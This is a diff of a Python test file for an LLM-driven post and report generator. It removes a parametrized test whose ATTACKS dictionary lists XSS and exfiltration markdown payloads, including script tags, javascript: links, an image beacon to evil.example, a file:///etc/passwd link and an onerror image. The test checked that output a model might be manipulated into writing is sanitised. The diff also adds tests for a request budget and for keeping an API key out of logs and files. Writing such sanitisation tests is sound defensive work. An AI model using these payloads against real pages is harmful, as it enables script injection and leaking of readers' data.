@@ -1,19 +1,19 @@
 """Whole runs with a model over real HTTP: what is cited, what stands in for what, and what attacks come to."""
 
 import json
+import posixpath
 import re
 from pathlib import Path
 from typing import Any
 
-import egregora_llm
-import egregora_report
 import pytest
 from egregora_core.errors import StageError, UsageError
-from egregora_core.pipeline import forget
-from egregora_core.session import Command, open_session
+from egregora_core.pipeline import forget, messages_to_read
+from egregora_core.session import Command, open_database, open_session
 from egregora_core.settings import load_settings
-from markdown_it import MarkdownIt
-from soup import CHAT, DAYS, GOOD, Desk, told
+from egregora_report.site import publish
+from model_server import Answer, completion, model_server
+from soup import DAYS, GOOD, Desk, told
 from support import egregora
 
 pytestmark = pytest.mark.slow  # whole runs against a server
@@ -45,14 +45,23 @@ def test_a_post_says_what_it_rests_on(desk: Desk, llmock: Any) -> None:
 def test_in_the_report_a_claim_leads_to_its_message(desk: Desk, llmock: Any) -> None:
     """The link is to the page on which the message can be read, and to its place there."""
     replies(llmock, *GOOD)
-    desk.plugins = [egregora_llm, egregora_report]
     desk.run()
-    pages = [path.read_text(encoding="utf-8") for path in (desk.root / "report/writings/post").glob("*.html")]
-    links = [link for page in pages for link in re.findall(r'<a href="([^"]*)"[^>]*>\d+</a>', page)]
+    names = ("document_id", "kind", "slug", "title", "body", "writer", "attrs")
+    rows = desk.rows(f"SELECT {', '.join(names)} FROM documents WHERE writer = 'llm_posts'")
+    documents = iter([dict(zip(names, row, strict=True)) | {"window_start": None} for row in rows])
+    settings = load_settings(desk.root, desk.app())
+    with open_database(settings.database_path, read_only=True) as db:
+        files = publish(documents, messages=messages_to_read(db, settings))
+        wanted = (
+            file for file in files if file.path.startswith(("writings/", "chats/")) and file.path.endswith(".html")
+        )
+        pages = {file.path: file.read().decode() for file in wanted}
+    posts = {path: page for path, page in pages.items() if path.startswith("writings/post/2024")}
+    links = [(path, link) for path in posts for link in re.findall(r'<a href="([^"]*)"[^>]*>\d+</a>', posts[path])]
     assert len(links) == 5
-    for link in links:
-        path, _, place = link.partition("#")
-        assert f'id="{place}"' in (desk.root / "report/writings/post" / path).read_text(encoding="utf-8")
+    for path, link in links:
+        page, _, place = link.partition("#")
+        assert f'id="{place}"' in pages[posixpath.normpath(f"{posixpath.dirname(path)}/{page}")]
 
 
 def test_a_post_of_the_model_stands_in_for_the_built_in_one(desk: Desk, llmock: Any) -> None:
@@ -140,40 +149,6 @@ def test_a_name_that_gets_out_of_a_model_fails_its_unit(desk: Desk, llmock: Any,
     assert "Quist" not in json.dumps(desk.facts())
 
 
-ATTACKS = {
-    "a script": '<script>alert("x")</script> the soup',
-    "a picture that tells home": "the soup ![x](https://evil.example/p.png?soup)",
-    "a link that acts": "[the soup](javascript:alert(1))",
-    "a link elsewhere": "the soup, see https://evil.example/soup",
-    "a link spelt so that only a browser reads it": "[the soup](&#106;avascript:alert(1))",
-    "a reference": "the soup [x][y]\n\n[y]: https://evil.example",
-    "a heading and a page break": "# the soup\n\n---\n\n<h1>PWNED</h1>",
-    "a link to a message of others": "[the soup](message:00000000-0000-4000-8000-00000000dead)",
-    "a link to a file": "[the soup](file:///etc/passwd)",
-    "markup that never ends": "the soup <img src=https://evil.example/x onerror=alert(1)",
-}
-"""What a model may be talked into writing, about soup."""
-
-
-@pytest.mark.parametrize("attack", ATTACKS)
-def test_what_a_model_is_talked_into_does_nothing(desk: Desk, llmock: Any, attack: str) -> None:
-    """On no page is there a tag, a picture, or a link that leads where no message does."""
-    desk.chat.write_text(CHAT.splitlines(keepends=True)[1], encoding="utf-8")
-    desk.settings["attempts"] = 1
-    replies(llmock, told((ATTACKS[attack], [1])))
-    try:
-        desk.run()
-    except StageError:
-        assert desk.bodies() == []
-        return
-    (page,) = (desk.root / "site/docs/posts/2024").glob("2024*.md")
-    shown = MarkdownIt("commonmark").render(page.read_text(encoding="utf-8").partition("\n---\n")[2])
-    tags = {tag.lower() for tag in re.findall(r"<\s*([a-z!/]+)", shown, re.IGNORECASE)}
-    assert not tags & {"script", "img", "iframe", "object", "embed", "style", "svg"}, shown
-    places = re.findall(r'(?:href|src)="([^"]*)"', shown)
-    assert not [place for place in places if "evil" in place or re.match(r"[a-z]+:", place)], shown
-
-
 def test_messages_leave_the_machine_only_with_consent(desk: Desk) -> None:
     """Without somebody to ask it is an error that says what to do; once agreed to, it is recorded, and always said."""
     desk.settings |= {"base_url": "http://model.invalid/v1", "retries": 0, "timeout": 1}
@@ -223,6 +198,36 @@ def test_several_windows_at_once_make_the_same(desk: Desk, llmock: Any) -> None:
     desk.settings["concurrency"] = 1
     desk.run(force=frozenset({"llm_posts"}))
     assert desk.rows(made) == several
+
+
+def test_one_budget_is_for_all_writers_of_a_run(tmp_path: Path) -> None:
+    """Posts and profiles together, several at once, ask as often as it says; the next run goes on from there."""
+    with model_server() as server:
+        desk = Desk(tmp_path, server.url)
+        desk.settings |= {"profiles": True, "concurrency": 3, "budget_requests": DAYS + 1}
+        assert desk.run().degraded
+        assert len(server.asked) == DAYS + 1
+        assert "budget_requests = 4" in desk.facts("llm_profiles")["stopped"]
+        assert not desk.run().degraded
+        assert len(server.asked) == DAYS + 2
+        desk.settings |= {"profiles": False}
+        lines = [line.text for line in desk.run().lines if line.stage.startswith("llm")]
+    assert ["stands" in line for line in lines] == [True]  # profiles take no part, and posts do not depend on that
+    assert desk.bodies("llm_profiles") == []
+
+
+def test_a_key_is_written_nowhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Not in an error, a record or an answer that is kept, even where the server repeats it."""
+    key = "sk-very-secret-0123456789"
+    monkeypatch.setenv("EGREGORA_LLM_KEY", key)
+    answers = [completion(GOOD[0]), Answer({"error": {"message": f"Incorrect key {key}", "code": key}}, 401)]
+    with model_server(lambda _: answers[0] if len(server.asked) == 1 else answers[1]) as server:
+        desk = Desk(tmp_path, server.url)
+        said = "\n".join(line.text for line in desk.run().lines)
+    assert "refused the key" in said
+    assert len(desk.bodies()) == 1
+    assert key not in said
+    assert not [file for file in tmp_path.rglob("*") if file.is_file() and key.encode() in file.read_bytes()]
 
 
 def test_an_own_prompt_is_read_from_the_workspace(desk: Desk, llmock: Any) -> None:
